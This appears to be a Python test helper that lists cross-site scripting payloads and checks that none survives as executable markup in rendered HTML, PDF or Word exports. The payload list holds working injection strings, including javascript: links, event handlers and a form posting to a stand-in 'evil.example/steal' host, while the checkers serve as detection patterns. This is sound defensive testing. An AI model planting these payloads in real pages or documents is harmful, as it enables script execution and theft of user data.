"""Cross-site scripting payloads, and checks that none of them survives as executable markup
in a page, an HTML export, a PDF or a Word document."""

from __future__ import annotations

import io
import re
import zipfile

import docx
import pypdf
from bs4 import BeautifulSoup

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">js link</a>',
    '<iframe src="https://evil.example/frame"></iframe>',
    "<svg onload=alert(1)><circle r=5 /></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<a href="jav&#x09;ascript:alert(1)">tab link</a>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body{background:url(https://evil.example/bg)}</style>",
    '<form action="https://evil.example/steal"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<div style="background:url(https://evil.example/div)">styled</div>',
    "[md link](javascript:alert(1))",
    "![md image](javascript:alert(1))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[mixed case](JaVaScRiPt:alert(1))",
    '[title trick](https://example.org/ "onmouseover=alert(1)")',
)
SHORT_PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(1)>"


def payload(marker: str) -> str:
    """Markdown or plain text carrying every payload, after a marker that must be shown."""
    return f"{marker}\n\n" + "\n\n".join(PAYLOADS)


def short_payload(marker: str) -> str:
    """For fields of 200 characters or fewer."""
    return f"{marker} {SHORT_PAYLOAD}"


# ---------------------------------------------------------------------------- HTML

_URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcdoc")
_BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html")
_FORBIDDEN_TAGS = ("iframe", "object", "embed", "base", "frame", "frameset", "applet")


def _squash(value: str) -> str:
    """An attribute value as a browser reads a URL's scheme: no whitespace or controls."""
    return re.sub(r"[\x00-\x20]+", "", value).lower()


def html_problems(html: str) -> list[str]:
    """Executable or hostile markup in an HTML document (empty when there is none)."""
    soup = BeautifulSoup(html, "html.parser")
    problems = []
    for script in soup.find_all("script"):
        src = script.get("src", "")
        own = src.startswith(("/static/", "/assets/")) or (not src and script.get("nonce"))
        if not own or "alert" in script.get_text():
            problems.append(f"script element: {str(script)[:120]}")
    for tag in soup.find_all(True):
        if tag.name in _FORBIDDEN_TAGS:
            problems.append(f"<{tag.name}> element")
        if tag.name == "meta" and tag.get("http-equiv", "").lower() == "refresh":
            problems.append("meta refresh")
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower().startswith("on"):
                problems.append(f"event handler {name}= on <{tag.name}>")
            if name.lower() in _URL_ATTRIBUTES and _squash(text).startswith(_BAD_SCHEMES):
                problems.append(f"{name}={text[:60]!r} on <{tag.name}>")
            if "evil.example" in text:
                problems.append(f"{name}={text[:60]!r} on <{tag.name}> points at evil.example")
        if tag.name == "style" and "evil.example" in tag.get_text():
            problems.append("a style element from the payload")
    return problems


def visible_text(html: str) -> str:
    return " ".join(BeautifulSoup(html, "html.parser").get_text(" ").split())


# ---------------------------------------------------------------------------- PDF


def pdf_problems(data: bytes) -> list[str]:
    """JavaScript actions, launch actions or javascript: links in a PDF."""
    reader = pypdf.PdfReader(io.BytesIO(data))
    problems = []
    root = reader.trailer["/Root"]
    if "/OpenAction" in root:
        problems.append("an open action")
    names = root.get("/Names")
    if names is not None and "/JavaScript" in names.get_object():
        problems.append("document-level JavaScript")
    if "/AA" in root:
        problems.append("document additional actions")
    for number, page in enumerate(reader.pages, start=1):
        for ref in page.get("/Annots") or []:
            annot = ref.get_object()
            action = annot.get("/A")
            action = action.get_object() if action is not None else {}
            kind = action.get("/S")
            if kind in ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData"):
                problems.append(f"page {number}: {kind} action")
            uri = str(action.get("/URI", ""))
            if _squash(uri).startswith(_BAD_SCHEMES) or "evil.example" in uri:
                problems.append(f"page {number}: link to {uri[:60]!r}")
            if "/AA" in annot:
                problems.append(f"page {number}: annotation with additional actions")
    return problems


def pdf_text(data: bytes) -> str:
    reader = pypdf.PdfReader(io.BytesIO(data))
    return " ".join(" ".join((page.extract_text() or "").split()) for page in reader.pages)


# ---------------------------------------------------------------------------- Word


def docx_problems(data: bytes) -> list[str]:
    """Hyperlinks to javascript:, embedded HTML or macro parts in a .docx."""
    problems = []
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            lower = name.lower()
            if lower.endswith("vbaproject.bin") or lower.endswith((".html", ".htm", ".mht")):
                problems.append(f"part {name}")
            if not lower.endswith((".xml", ".rels")):
                continue
            xml = zf.read(name).decode("utf-8", errors="replace")
            if "altChunk" in xml:
                problems.append(f"{name}: an altChunk (embedded HTML)")
            for target in re.findall(r'Target="([^"]*)"', xml):
                if _squash(target).startswith(_BAD_SCHEMES) or "evil.example" in target:
                    problems.append(f"{name}: a link to {target[:60]!r}")
            if re.search(r"HYPERLINK\s+\"?\s*javascript", xml, re.IGNORECASE):
                problems.append(f"{name}: a HYPERLINK field to javascript:")
    return problems


def docx_text(data: bytes) -> str:
    document = docx.Document(io.BytesIO(data))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            parts += [cell.text for cell in row.cells]
    return " ".join(" ".join(parts).split())
